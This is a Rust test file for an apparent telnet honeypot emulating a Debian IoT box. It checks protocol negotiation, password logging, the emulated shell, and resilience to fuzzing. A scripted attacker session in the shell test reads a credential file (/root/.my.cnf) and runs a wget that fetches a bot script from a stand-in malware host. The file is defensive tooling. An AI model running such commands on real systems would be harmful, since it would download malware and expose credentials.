//! telnet against the real Debian `telnet` client driven by `expect`: netkit's opening
//! negotiation, a wrong password logged byte-exact, the configured password giving the
//! emulated shell (`uname -a`, a bait file, a pipeline, an unknown command, a `wget`), and
//! survival of random IAC garbage.
mod services_common;

use std::io::{Read, Write};
use std::net::TcpStream;
use std::process::Command;
use std::time::Duration;

use services_common::{Fuzz, Service, run, secret, seed, tool};

/// A password with spaces, quotes, `]`, `\` and UTF-8.
const NASTY: &str = "p a\"s]s\\w'ö rd";
const ROOT_PW: &str = "Tr1cky pw]\\\"";

fn clients() -> bool {
    tool("expect") && tool("telnet")
}

fn start(seed_byte: u8) -> Service {
    Service::start(
        "telnet",
        &seed(seed_byte),
        "iot-01",
        "debian",
        &[
            ("TELNET_ROOT_PASSWORD", ROOT_PW),
            ("TELNET_USER", "deploy"),
            ("TELNET_USER_PASSWORD", "hunter2"),
        ],
    )
}

/// Runs `script` (Tcl, after a `spawn telnet -8 127.0.0.1 <port>`) under expect with
/// `PW` in the environment; returns everything the client printed.
fn expect(svc: &Service, password: &str, script: &str) -> String {
    let full = format!(
        "set timeout 20\nspawn telnet -8 127.0.0.1 {}\nexpect \"login: \"\n{script}\n",
        svc.port
    );
    let out = run(Command::new("expect")
        .args(["-c", &full])
        .env("PW", password)
        .env("LC_ALL", "C.UTF-8"));
    String::from_utf8_lossy(&out.stdout).into_owned()
}

#[test]
fn the_opening_is_netkit_telnetds() {
    let svc = start(1);
    let mut s = TcpStream::connect(("127.0.0.1", svc.port)).expect("connect");
    s.set_read_timeout(Some(Duration::from_secs(5)))
        .expect("timeout");
    let mut first = [0u8; 12];
    s.read_exact(&mut first).expect("negotiation");
    assert_eq!(first, *b"\xff\xfd\x18\xff\xfd\x20\xff\xfd\x23\xff\xfd\x27");
    s.write_all(b"\xff\xfc\x18\xff\xfc\x20\xff\xfc\x23\xff\xfc\x27")
        .expect("refuse all");
    let mut rest = Vec::new();
    let mut buf = [0u8; 512];
    while !String::from_utf8_lossy(&rest).contains("login: ") {
        let n = s.read(&mut buf).expect("banner");
        assert!(n > 0, "closed before login: {rest:?}");
        rest.extend_from_slice(&buf[..n]);
    }
    assert!(
        rest.windows(3).any(|w| w == b"\xff\xfb\x01"),
        "WILL ECHO: {rest:?}"
    );
    let text = String::from_utf8_lossy(&rest);
    assert!(text.contains("Debian GNU/Linux 12\r\n"), "{text}");
}

#[test]
fn a_wrong_password_is_refused_and_logged_byte_exact() {
    if !clients() {
        return;
    }
    let mut svc = start(2);
    let out = expect(
        &svc,
        NASTY,
        "send \"root\\r\"\nexpect \"Password: \"\nsend -- \"$env(PW)\\r\"\nexpect \"Login incorrect\"\nexpect \"login: \"",
    );
    assert!(out.contains("Login incorrect"), "{out}");
    let auth = svc.next("auth_attempt");
    assert_eq!(secret(&auth), NASTY.as_bytes());
    assert_eq!(auth.fields.get("principal"), Some("root"));
    assert_eq!(auth.fields.get("outcome"), Some("failure"));
    assert_eq!(
        auth.fields.get("secret_printable"),
        Some("p a\"s]s\\w'?? rd")
    );
    assert_eq!(auth.attacker_ip.as_deref(), Some("127.0.0.1"));
}

#[test]
fn the_configured_password_gives_the_shell() {
    if !clients() {
        return;
    }
    let mut svc = start(3);
    let script = "send \"root\\r\"\nexpect \"Password: \"\nsend -- \"$env(PW)\\r\"\n\
        expect \":~# \"\nsend \"uname -a\\r\"\nexpect \":~# \"\n\
        send \"cat /root/.my.cnf\\r\"\nexpect \":~# \"\n\
        send \"cat /etc/passwd | grep -c nologin\\r\"\nexpect \":~# \"\n\
        send \"frobnicate --now\\r\"\nexpect \":~# \"\n\
        send \"wget http://malware.example/bot.sh -O /tmp/b\\r\"\nexpect \":~# \"\n\
        send \"exit\\r\"\nexpect eof";
    let out = expect(&svc, ROOT_PW, script);
    assert!(
        out.contains("The programs included with the Debian GNU/Linux system"),
        "{out}"
    );
    assert!(
        out.contains("Linux ") && out.contains("-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1."),
        "{out}"
    );
    assert!(
        out.contains("[client]") && out.contains("password="),
        "{out}"
    );
    assert!(
        out.contains("-bash: frobnicate: command not found"),
        "{out}"
    );
    assert!(
        out.contains("wget: unable to resolve host address ‘malware.example’"),
        "{out}"
    );
    assert!(out.contains("logout"), "{out}");
    let auth = svc.next("auth_attempt");
    assert_eq!(auth.fields.get("outcome"), Some("success"));
    assert_eq!(secret(&auth), ROOT_PW.as_bytes());
    let mut commands = Vec::new();
    for _ in 0..5 {
        let c = svc.next("command");
        commands.push(c.fields.get("command").unwrap_or_default().to_owned());
    }
    assert_eq!(
        commands,
        [
            "uname -a",
            "cat /root/.my.cnf",
            "cat /etc/passwd | grep -c nologin",
            "frobnicate --now",
            "wget http://malware.example/bot.sh -O /tmp/b",
        ]
    );
    let download = svc.next("download_attempt");
    assert_eq!(
        download.fields.get("url"),
        Some("http://malware.example/bot.sh")
    );
    assert_eq!(download.fields.get("tool"), Some("wget"));
    let exit = svc.next("command");
    assert_eq!(exit.fields.get("command"), Some("exit"));
    let session = svc.next("session_recorded");
    assert!(
        session
            .fields
            .get("bytes")
            .and_then(|b| b.parse::<u64>().ok())
            .is_some_and(|b| b > 200)
    );
}

#[test]
fn the_user_account_logs_in_too() {
    if !clients() {
        return;
    }
    let mut svc = start(4);
    let out = expect(
        &svc,
        "hunter2",
        "send \"deploy\\r\"\nexpect \"Password: \"\nsend -- \"$env(PW)\\r\"\nexpect \":~$ \"\nsend \"id\\r\"\nexpect \":~$ \"\nsend \"logout\\r\"\nexpect eof",
    );
    assert!(
        out.contains("uid=1000(deploy) gid=1000(deploy) groups=1000(deploy),24(cdrom)"),
        "{out}"
    );
    assert_eq!(
        svc.next("auth_attempt").fields.get("outcome"),
        Some("success")
    );
}

#[test]
fn iac_garbage_does_not_hurt_the_service() {
    let mut svc = start(5);
    let mut fuzz = Fuzz::new(0x7e1e);
    for round in 0..60 {
        let mut data = Vec::new();
        for _ in 0..(fuzz.next() % 40) {
            match fuzz.next() % 5 {
                0 => data.extend_from_slice(&[0xff, 0xfa, (fuzz.next() & 0xff) as u8]),
                1 => data.extend_from_slice(&[
                    0xff,
                    0xfb + (fuzz.next() % 4) as u8,
                    (fuzz.next() & 0xff) as u8,
                ]),
                2 => data.extend_from_slice(&[0xff, 0xf0]),
                3 => data.extend_from_slice(b"root\r\n"),
                _ => {
                    let n = (fuzz.next() % 64) as usize;
                    data.extend(fuzz.bytes(n));
                }
            }
        }
        if round % 10 == 0 {
            data.extend(std::iter::repeat_n(0xffu8, 5_000));
        }
        let _ = svc.raw(&data);
    }
    assert!(svc.alive());
    let reply = svc.raw(b"\xff\xfc\x18");
    assert!(
        reply.starts_with(b"\xff\xfd\x18"),
        "still negotiating: {reply:?}"
    );
}
